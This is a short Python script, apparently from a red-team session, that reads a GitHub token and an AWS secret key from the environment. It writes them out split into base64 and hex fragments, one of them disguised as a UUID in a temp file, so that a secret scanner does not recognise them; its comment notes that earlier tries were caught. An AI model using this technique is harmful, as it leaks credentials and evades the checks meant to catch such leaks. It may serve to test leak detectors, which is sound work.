# A secret from the environment in an encoding cut into short groups
# (red team, session 22; each gave nothing before): its base64 as a JSON
# list of 4-character strings, its hex in groups of 4 parted by spaces,
# and the AWS key's hex in groups of 8 parted by dashes, as a UUID's.
import base64
import json
import os
import sys

s = os.environ["GITHUB_TOKEN"].encode()
b = base64.b64encode(s).decode()
print(json.dumps([b[i:i + 4] for i in range(0, len(b), 4)]))
h = s.hex()
sys.stderr.write(" ".join(h[i:i + 4] for i in range(0, len(h), 4)) + "\n")
a = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()
with open("/tmp/uuid.txt", "w") as f:
    f.write("-".join(a[i:i + 8] for i in range(0, len(a), 8)))
